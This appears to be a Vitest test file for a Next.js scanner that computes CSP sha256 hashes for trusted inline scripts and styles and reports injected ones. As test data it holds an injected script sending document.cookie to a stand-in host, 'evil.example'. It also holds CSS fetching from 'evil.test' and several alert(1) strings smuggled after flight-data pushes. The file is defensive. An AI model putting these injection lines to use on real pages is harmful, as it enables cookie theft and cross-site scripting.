import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { preferencesBootScript } from '@/components/accessibility/preferences';
import {
  cspHash,
  inlineElements,
  isBuiltStylesheet,
  isExecutableScript,
  isNextFlightScript,
  scanInline,
  UNTRUSTED_EXCERPT_LENGTH,
} from './inline-hashes';

/** What a browser compares: base64 SHA-256 of the element's text (computed here independently). */
const browserHash = (text: string) => `'sha256-${createHash('sha256').update(Buffer.from(text, 'utf8')).digest('base64')}'`;

const BOOT = preferencesBootScript();
const FLIGHT_BOOTSTRAP = '(self.__next_f=self.__next_f||[]).push([0])';
const FLIGHT_DATA = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[73900,[\\"/_next/static/chunks/a.js\\"],\\"default\\"]\\n"])';
const TRUSTED = { scripts: [BOOT], styles: ['body{margin:0}'] };

/** A page as Next 16 writes it: chunk scripts, the boot script, JSON-LD and flight data. */
const PAGE = `<!DOCTYPE html><html><head><script src="/_next/static/chunks/x.js" async=""></script>
<script>${BOOT}</script></head><body><p style="width:50%">Hi</p>
<script type="application/ld+json">{"@context":"https://schema.org"}</script>
<script>${FLIGHT_BOOTSTRAP}</script><script>${FLIGHT_DATA}</script></body></html>`;

describe('cspHash', () => {
  it('is the browser hash of the text, quoted as a CSP source', () => {
    expect(cspHash('alert(1)')).toBe(browserHash('alert(1)'));
    expect(cspHash('')).toBe("'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='");
    expect(cspHash('é')).toBe(browserHash('é'));
  });

  it('hashes the text after the HTML parser turned CR LF and CR into LF', () => {
    expect(cspHash('a\r\nb\rc')).toBe(browserHash('a\nb\nc'));
  });
});

describe('isNextFlightScript', () => {
  it.each([
    FLIGHT_BOOTSTRAP,
    FLIGHT_DATA,
    'self.__next_f.push([3,"AAEC"])',
    `${FLIGHT_BOOTSTRAP};self.__next_f.push([2,{"a":["]",")"]}])`,
    'self.__next_f.push([1,"a \\u003c/script\\u003e ;alert(1)"])',
  ])('accepts Next flight data: %s', (text) => {
    expect(isNextFlightScript(text)).toBe(true);
  });

  it.each([
    'alert(1)',
    'self.__next_f.push([1,"x"]);alert(1)',
    'self.__next_f.push([1,"x"]),alert(1)',
    'self.__next_f.push([1,"x"])+self.__next_f.push([1,"y"])',
    'self.__next_f.push([1,alert(1)])',
    'self.__next_f.push([1,"x"].map(alert))',
    'self.__next_f.push({"a":1})',
    'self.__next_f.push([1,"unterminated])',
    'self.__next_f.push([1,"x"]);',
    ' self.__next_f.push([1,"x"])',
    'self.__next_f.push([1,"x"])\nalert(1)',
    'self.__next_f=[];self.__next_f.push([0])',
  ])('refuses anything that could run other code: %s', (text) => {
    expect(isNextFlightScript(text)).toBe(false);
  });
});

describe('isExecutableScript', () => {
  it.each([
    '',
    ' async=""',
    ' type="text/javascript"',
    " type='module'",
    ' type=application/javascript',
    ' type="text/javascript; charset=utf-8"',
  ])('runs: <script%s>', (attributes) => expect(isExecutableScript(attributes)).toBe(true));
  it.each([' type="application/ld+json"', ' type="application/json"', ' type="text/plain"'])('data block: <script%s>', (attributes) =>
    expect(isExecutableScript(attributes)).toBe(false),
  );
});

describe('inlineElements', () => {
  it('finds inline scripts and styles, skips script files, ends raw text at the first closing tag in any case', () => {
    const html = `<script src="/a.js"></script><SCRIPT data-x="a>b">one()</SCRIPT ><style media="x">p{}</style><script>two()</script\n>`;
    expect(inlineElements(html)).toEqual([
      { tag: 'script', attributes: ' data-x="a>b"', text: 'one()' },
      { tag: 'style', attributes: ' media="x"', text: 'p{}' },
      { tag: 'script', attributes: '', text: 'two()' },
    ]);
  });
});

describe('scanInline', () => {
  it("hashes the page's own scripts (boot script, flight data), not the JSON-LD data block", () => {
    const scan = scanInline(PAGE, TRUSTED);
    expect(scan.scripts).toEqual([browserHash(BOOT), browserHash(FLIGHT_BOOTSTRAP), browserHash(FLIGHT_DATA)]);
    expect(scan.styles).toEqual([]);
    expect(scan.untrustedScripts).toEqual([]);
  });

  it('leaves an injected script unhashed (the browser will refuse it) and reports it', () => {
    const injected = PAGE.replace('<p style', '<script>fetch("//evil.example/?"+document.cookie)</script><p style');
    const scan = scanInline(injected, TRUSTED);
    expect(scan.scripts).not.toContain(browserHash('fetch("//evil.example/?"+document.cookie)'));
    expect(scan.untrustedScripts).toEqual([browserHash('fetch("//evil.example/?"+document.cookie)')]);
  });

  it('keeps the start of each refused element for the server log, by its hash', () => {
    const long = `window.x=${'1'.repeat(UNTRUSTED_EXCERPT_LENGTH * 2)}`;
    const scan = scanInline(`${PAGE}<script>${long}</script><style>p{color:red}</style>`, TRUSTED);
    expect(scan.untrustedExcerpts).toEqual({
      [browserHash(long)]: long.slice(0, UNTRUSTED_EXCERPT_LENGTH),
      [browserHash('p{color:red}')]: 'p{color:red}',
    });
    expect(scanInline(PAGE, TRUSTED).untrustedExcerpts).toEqual({});
  });

  it('a near-copy of the boot script or flight data is not trusted', () => {
    const scan = scanInline(`<script>${BOOT}alert(1)</script><script>${FLIGHT_DATA};alert(1)</script>`, TRUSTED);
    expect(scan.scripts).toEqual([]);
    expect(scan.untrustedScripts).toHaveLength(2);
  });

  it('hashes only trusted <style> elements; duplicates once', () => {
    const scan = scanInline('<style>body{margin:0}</style><style>body{margin:0}</style><style>p{color:red}</style>', TRUSTED);
    expect(scan.styles).toEqual([browserHash('body{margin:0}')]);
    expect(scan.untrustedStyles).toEqual([browserHash('p{color:red}')]);
  });

  it('trusts a static script written with CR LF line ends as the browser sees it', () => {
    const scan = scanInline('<script>a();\r\nb();</script>', { scripts: ['a();\nb();'], styles: [] });
    expect(scan.scripts).toEqual([browserHash('a();\nb();')]);
  });

  describe("Next's inlined CSS (experimental.inlineCss)", () => {
    const A = '.a{color:red}\n';
    const B = '.b{margin:0}\n/*# sourceMappingURL=b.css.map*/';
    const stylesheets = new Map([
      ['/_next/static/chunks/a.css', A],
      ['/_next/static/chunks/b.css', B],
    ]);
    const withSheets = { ...TRUSTED, stylesheets };

    it('hashes a <style data-href> whose text is exactly the named built stylesheets, in order (React joins one precedence)', () => {
      const html = `<style data-precedence="next" data-href="/_next/static/chunks/a.css /_next/static/chunks/b.css?dpl=d1">${A}${B}</style>`;
      const scan = scanInline(html, withSheets);
      expect(scan.styles).toEqual([browserHash(A + B)]);
      expect(scan.untrustedStyles).toEqual([]);
    });

    it('refuses other CSS under a built file name, a wrong order, an unknown file, no data-href, or no stylesheets given', () => {
      const cases = [
        `<style data-precedence="next" data-href="/_next/static/chunks/a.css">${A}body{background:url(//evil.test/x)}</style>`,
        `<style data-precedence="next" data-href="/_next/static/chunks/a.css /_next/static/chunks/b.css">${B}${A}</style>`,
        `<style data-precedence="next" data-href="/_next/static/chunks/c.css">${A}</style>`,
        `<style data-precedence="next">${A}</style>`,
      ];
      for (const html of cases) {
        const scan = scanInline(html, withSheets);
        expect(scan.styles, html).toEqual([]);
        expect(scan.untrustedStyles, html).toHaveLength(1);
      }
      expect(scanInline(`<style data-href="/_next/static/chunks/a.css">${A}</style>`, TRUSTED).styles).toEqual([]);
    });

    it('isBuiltStylesheet compares the text after newline normalisation of the files', () => {
      const crlf = new Map([['/_next/static/chunks/a.css', '.a{}\r\n.b{}']]);
      expect(isBuiltStylesheet(' data-href="/_next/static/chunks/a.css"', '.a{}\n.b{}', crlf)).toBe(true);
      expect(isBuiltStylesheet(" data-href='/_next/static/chunks/a.css'", '.a{}\n.b{}', crlf)).toBe(true);
      expect(isBuiltStylesheet(' data-href="/_next/static/chunks/a.css"', '.a{}\n.b{} ', crlf)).toBe(false);
    });
  });
});
